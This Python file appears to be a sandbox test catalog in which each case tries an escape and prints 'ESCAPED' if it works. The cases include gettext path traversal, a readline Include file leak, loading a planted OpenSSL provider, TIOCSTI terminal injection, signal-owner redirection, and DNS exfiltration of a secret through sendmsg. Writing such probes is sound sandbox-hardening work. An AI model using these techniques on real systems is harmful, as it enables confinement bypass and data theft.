"""What C libraries open, load or signal for a program that never names the file to Python, or names it in another way."""

from __future__ import annotations

from functools import partial

from attack import Attack

reads = partial(Attack, "read", alone=True)

#: A catalog of messages, HIDDEN/xx/LC_MESSAGES/d.mo, that translates "hello" to the secret.
CATALOG = r"""
import os, struct
os.makedirs(HIDDEN + '/xx/LC_MESSAGES')
texts = [(b'', b'Content-Type: text/plain; charset=UTF-8\n'), (b'hello', b's3cret')]
data, tables = b'', []
for side in 0, 1:
    for text in texts:
        tables.append(struct.pack('<II', len(text[side]), 28 + 32 + len(data)))
        data += text[side] + b'\0'
head = struct.pack('<7I', 0x950412de, 0, 2, 28, 44, 0, 0)
open(HIDDEN + '/xx/LC_MESSAGES/d.mo', 'wb').write(head + b''.join(tables) + data)
"""
LOCALE = """
import locale, os
for name in 'C.UTF-8', 'en_US.UTF-8':
    try: locale.setlocale(locale.LC_ALL, name)
    except locale.Error: continue
    break
else: absent('a locale')
if not hasattr(locale, 'dgettext'): absent('gettext of the C library')
"""

CASES: list[Attack] = [
    reads(
        "a catalog of messages in a folder that libc is told of",
        LOCALE
        + """
os.environ['LANGUAGE'] = 'xx'
locale.bindtextdomain('d', HIDDEN)
got(locale.dgettext('d', 'hello'))
""",
        plant=CATALOG,
        kind="native",
    ),
    reads(
        "a catalog of messages by a language with dots",
        LOCALE
        + """
os.environ['LANGUAGE'] = '../' * 20 + HIDDEN[1:] + '/xx'
got(locale.dgettext('d', 'hello'))
""",
        plant=CATALOG,
        kind="native",
    ),
    reads(
        "a catalog of messages by a domain with dots",
        LOCALE
        + """
os.environ['LANGUAGE'] = 'xx'
os.makedirs(WORK + '/xx/LC_MESSAGES')
locale.bindtextdomain('e', os.path.abspath(WORK))
domain = '../' * 20 + HIDDEN[1:] + '/xx/LC_MESSAGES/d'
locale.bindtextdomain(domain, os.path.abspath(WORK))
got(locale.dgettext(domain, 'hello'))
""",
        grants="expose-rw=./work",
        plant=CATALOG,
        kind="native",
    ),
    reads(
        "what readline includes, by its complaint",
        """
        try: import readline
        except ImportError: absent('readline')
        import os
        complaint, end = os.pipe()
        kept = os.dup(2)
        os.dup2(end, 2)
        try: readline.parse_and_bind(' $  Include ' + SECRET)
        finally: os.dup2(kept, 2); os.close(end); os.close(kept)
        got(os.read(complaint, 4096))
    """,
        kind="native",
    ),
    reads(
        "certificates by the variable that OpenSSL asks",
        """
        import os, ssl
        os.environ['SSL_CERT_FILE'] = HIDDEN + '/ca.pem'
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.set_default_verify_paths()
        print('ESCAPED' if context.cert_store_stats()['x509'] == 1 else 'no')
    """,
        plant="""
import shutil, ssl
text = ''
for known in ssl.create_default_context().get_ca_certs(True)[:1]: text = ssl.DER_cert_to_PEM_cert(known)
open(HIDDEN + '/ca.pem', 'w').write(text)
""",
        kind="native",
    ),
    reads(
        "whether a file is there, by the complaint of the linker",
        """
        import importlib.machinery, importlib.util, sys
        class Finder:
            @staticmethod
            def find_spec(name, path=None, target=None):
                if name == 'forged':
                    loader = importlib.machinery.ExtensionFileLoader(name, SECRET)
                    return importlib.util.spec_from_file_location(name, SECRET, loader=loader)
        sys.meta_path.insert(0, Finder)
        try: import forged
        except ImportError as error: print('ESCAPED' if 'too short' in str(error) or 'ELF' in str(error) else 'no')
    """,
        kind="metadata",
    ),
    reads(
        "whether a module is there, by the explanation that it is missing",
        """
        import sys
        sys.dont_write_bytecode = True
        sys.path.insert(0, HIDDEN)
        said = {}
        for name in 'there', 'other':
            try: __import__(name); said[name] = 'it was there'
            except ImportError as error: said[name] = type(error).__name__ + str(error).replace(name, '')
        print('ESCAPED' if said['there'] != said['other'] else 'no')
    """,
        plant="open(HIDDEN + '/there.py', 'w').close()",
        kind="metadata",
    ),
    reads(
        "an entry whose folder became a link",
        """
        import os
        os.mkdir(WORK + '/d')
        open(WORK + '/d/key', 'w').close()
        entry, = os.scandir(WORK + '/d')
        os.rename(WORK + '/d', WORK + '/e')
        os.symlink(HIDDEN, WORK + '/d')
        print('ESCAPED' if entry.stat().st_size == 6 else 'no')
    """,
        grants="expose-rw=./work",
        kind="link",
    ),
    reads(
        "an entry whose folder became a link, not to be followed itself",
        """
        import os
        os.mkdir(WORK + '/d')
        os.symlink('x', WORK + '/d/key')
        entry, = os.scandir(WORK + '/d')
        os.rename(WORK + '/d', WORK + '/e')
        os.symlink(HIDDEN, WORK + '/d')
        print('ESCAPED' if entry.stat(follow_symlinks=False).st_size == 6 else 'no')
    """,
        grants="expose-rw=./work",
        kind="link",
    ),
    Attack(
        "write",
        "a semaphore made by the type itself",
        """
        import _multiprocessing, os
        name = f'/psb-{os.getpid()}'
        _multiprocessing.SemLock(0, 1, 1, name, True)
        print('ESCAPED')
    """,
        kind="twin",
    ),
    Attack(
        "write",
        "a semaphore of others removed",
        """
        import _multiprocessing, os
        try: _multiprocessing.sem_unlink(f'/psb-{os.getpid()}-none')
        except FileNotFoundError as error:
            if type(error) is FileNotFoundError: print('ESCAPED')
    """,
        kind="twin",
    ),
    Attack(
        "write",
        "shared memory by shm_open",
        """
        import _posixshmem, os
        name = f'/psb-{os.getpid()}'
        os.close(_posixshmem.shm_open(name, flags=os.O_CREAT | os.O_RDWR, mode=0o600))
        try: print('ESCAPED')
        finally: _posixshmem.shm_unlink(name)
    """,
        kind="twin",
    ),
    Attack(
        "write",
        "the map that perf reads",
        """
        import os, sys
        try: sys.activate_stack_trampoline('perf')
        except ValueError: absent('the trampoline of perf')
        (lambda: 0)()
        sys.deactivate_stack_trampoline()
        os.remove(f'/tmp/perf-{os.getpid()}.map')
        print('ESCAPED')
    """,
        since=(3, 12),
        kind="state",
        alone=True,
    ),
    Attack(
        "native",
        "a provider of OpenSSL that the program wrote",
        """
        import os, sys
        folder = os.path.abspath(WORK)
        if not os.path.exists(WORK + '/evil.so'): absent('a provider of OpenSSL')
        if '_hashlib' in sys.modules or '_ssl' in sys.modules: absent('OpenSSL that has not begun')
        open(WORK + '/evil.cnf', 'w').write(
            f'openssl_conf = a\\n[a]\\nproviders = b\\n[b]\\nevil = c\\n[c]\\nmodule = {folder}/evil.so\\nactivate = 1\\n')
        os.environ['OPENSSL_CONF'] = folder + '/evil.cnf'
        import ssl
        if 'evil.so' in open('/proc/self/maps').read(): print('ESCAPED')
    """,
        grants="expose-rw=./work\nexpose-ro=/proc",
        plant="""
import glob, shutil
for found in (glob.glob('/usr/lib*/ossl-modules/legacy.so') + glob.glob('/usr/lib/*/ossl-modules/legacy.so'))[:1]: shutil.copy(found, WORK + '/evil.so')
""",
        kind="native",
        alone=True,
    ),
    Attack(
        "native",
        "a function of SQL that registers functions by their address",
        """
        import sqlite3
        base = sqlite3.connect(':memory:')
        base.setconfig(sqlite3.SQLITE_DBCONFIG_ENABLE_FTS3_TOKENIZER, True)
        try: at = base.execute("select fts3_tokenizer('simple')").fetchone()[0]
        except sqlite3.OperationalError: absent('full text search')
        base.execute("select fts3_tokenizer('mine', ?)", (at,))
        print('ESCAPED')
    """,
        since=(3, 12),
        kind="native",
    ),
    *(
        Attack(
            "execute",
            f"signals by the owner of a descriptor, {name}",
            f"import fcntl, socket, struct\na, b = socket.socketpair()\n{code}\n"
            "print('ESCAPED' if fcntl.fcntl(a, fcntl.F_GETOWN) == VICTIM else 'no')",
        )
        for name, code in {
            "F_SETOWN": "fcntl.fcntl(a, fcntl.F_SETOWN, VICTIM)",
            "F_SETOWN_EX": "fcntl.fcntl(a, 15, struct.pack('ii', 1, VICTIM))",
            "FIOSETOWN": "fcntl.ioctl(a, 0x8901, struct.pack('i', VICTIM))",
        }.items()
    ),
    Attack(
        "execute",
        "keys put into a terminal",
        """
        import fcntl, os, termios
        control, terminal = os.openpty()
        try: fcntl.ioctl(terminal, termios.TIOCSTI, b'x')
        except OSError as error:
            if type(error) is not OSError and type(error) is not PermissionError: raise
            absent(f'a terminal that lets itself be typed into ({error})')
        print('ESCAPED')
    """,
    ),
    Attack(
        "exfiltrate",
        "a look-up by the address of sendmsg",
        """
        import socket
        try: socket.socket(type=socket.SOCK_DGRAM).sendmsg([b'x'], [], 0, ('s3cret.invalid', 9))
        except socket.gaierror: print('ESCAPED')
    """,
        grants="net=ALLOW|UDP|127.0.0.1|{open}|OUT",
        kind="twin",
    ),
]
